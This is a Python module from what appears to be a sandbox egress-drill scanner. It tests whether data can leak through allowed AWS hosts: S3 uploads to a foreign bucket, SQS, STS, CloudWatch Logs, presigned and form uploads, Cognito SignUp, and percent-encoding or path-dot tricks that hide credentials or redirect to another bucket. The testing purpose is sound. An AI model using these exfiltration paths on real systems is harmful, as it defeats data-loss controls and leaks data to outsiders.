"""Lines 8, 9 and 10: AWS itself as the way out, at hosts that are allowed."""

from __future__ import annotations

import json

from glovebox.drill.scanner import Scanner, attempt, request


@attempt(8, "S3 PutObject with the attacker's key")
def put_object(scanner: Scanner) -> str:
    url = f"https://{scanner.s3}/{scanner.brief.foreign_bucket}/{scanner.marker}"
    body = scanner.marker.encode()
    data = scanner.signed("PUT", url, "s3", key=scanner.brief.own_key, body=body)
    return scanner.inside(data, host=scanner.s3)


@attempt(8, "S3 PutObject with the attacker's key into a bucket of the ticket")
def put_object_allowed_bucket(scanner: Scanner) -> str:
    url = f"https://{scanner.s3}/{scanner.brief.bucket}/{scanner.marker}"
    data = scanner.signed("PUT", url, "s3", key=scanner.brief.own_key, body=b"x")
    return scanner.inside(data, host=scanner.s3)


@attempt(8, "SQS SendMessage with the attacker's key")
def send_message(scanner: Scanner) -> str:
    return _json_call(scanner, "sqs", "AmazonSQS.SendMessage", {"MessageBody": scanner.marker})


@attempt(8, "STS GetCallerIdentity with the attacker's key")
def caller_identity(scanner: Scanner) -> str:
    url = f"https://{scanner.allowed}/?Action=GetCallerIdentity&Version=2011-06-15&x={scanner.marker}"
    return scanner.inside(scanner.signed("GET", url, "sts", key=scanner.brief.own_key))


@attempt(8, "CloudWatch Logs PutLogEvents with the attacker's key")
def put_log_events(scanner: Scanner) -> str:
    events = [{"timestamp": 1, "message": scanner.marker}]
    return _json_call(scanner, "logs", "Logs_20140328.PutLogEvents", {"logEvents": events})


@attempt(9, "a presigned GET of the attacker's")
def presigned_get(scanner: Scanner) -> str:
    url = f"https://{scanner.s3}/{scanner.brief.foreign_bucket}/{scanner.marker}"
    signed = scanner.presigned("GET", url)
    return scanner.inside(request("GET", signed), host=scanner.s3)


@attempt(9, "a presigned PUT with its query in percent signs, beside our own signature")
def presigned_escaped(scanner: Scanner) -> str:
    url = f"https://{scanner.s3}/{scanner.brief.bucket}/{scanner.marker}"
    signed = scanner.presigned("PUT", url)
    hidden = signed.replace("X-Amz-Credential", "X-%41mz-Credential")
    return scanner.inside(scanner.signed("PUT", hidden, "s3", body=b"x"), host=scanner.s3)


@attempt(9, "a form upload with the attacker's policy")
def form(scanner: Scanner) -> str:
    body = (
        f'--b\r\nContent-Disposition: form-data; name="key"\r\n\r\n{scanner.marker}\r\n'
        f'--b\r\nContent-Disposition: form-data; name="file"\r\n\r\n{scanner.marker}\r\n--b--\r\n'
    ).encode()
    url = f"https://{scanner.s3}/{scanner.brief.foreign_bucket}"
    fields = {"content-type": "multipart/form-data; boundary=b"}
    return scanner.inside(request("POST", url, body, **fields), host=scanner.s3)


@attempt(9, "an unsigned PutObject to a bucket that anybody may write")
def unsigned_put(scanner: Scanner) -> str:
    url = f"https://{scanner.s3}/{scanner.brief.foreign_bucket}/{scanner.marker}"
    return scanner.inside(request("PUT", url, b"x"), host=scanner.s3)


@attempt(9, "Cognito SignUp, which needs no signature")
def sign_up(scanner: Scanner) -> str:
    host = f"cognito-idp.{scanner.brief.region}.amazonaws.com"
    body = json.dumps({"Username": scanner.marker}).encode()
    target = {"x-amz-target": "AWSCognitoIdentityProviderService.SignUp"}
    return scanner.inside(request("POST", f"https://{host}/", body, **target), host=host)


@attempt(10, "data in the query of a request for the attacker's bucket, with our key")
def bucket_query(scanner: Scanner) -> str:
    url = f"https://{scanner.s3}/{scanner.brief.foreign_bucket}/?x-d={scanner.marker}"
    return scanner.inside(scanner.signed("GET", url, "s3"), host=scanner.s3)


@attempt(10, "the attacker's bucket behind a doubled slash and dots, with our key")
def bucket_dots(scanner: Scanner) -> str:
    url = f"https://{scanner.s3}/{scanner.brief.bucket}/..//{scanner.brief.foreign_bucket}/?x-d={scanner.marker}"
    name = scanner.brief.foreign_bucket
    escaped = f"https://{scanner.s3}/%{ord(name[0]):02x}{name[1:]}/?x-d={scanner.marker}"
    first = scanner.inside(scanner.signed("GET", escaped, "s3"), host=scanner.s3)
    return f"{first}; {scanner.inside(scanner.signed('GET', url, 's3'), host=scanner.s3)}"


def _json_call(scanner: Scanner, service: str, target: str, content: object) -> str:
    host = f"{service}.{scanner.brief.region}.amazonaws.com"
    body = json.dumps(content).encode()
    fields = {"x_amz_target": target, "content_type": "application/x-amz-json-1.1"}
    data = scanner.signed("POST", f"https://{host}/", service, key=scanner.brief.own_key, body=body, **fields)
    return scanner.inside(data, host=host)
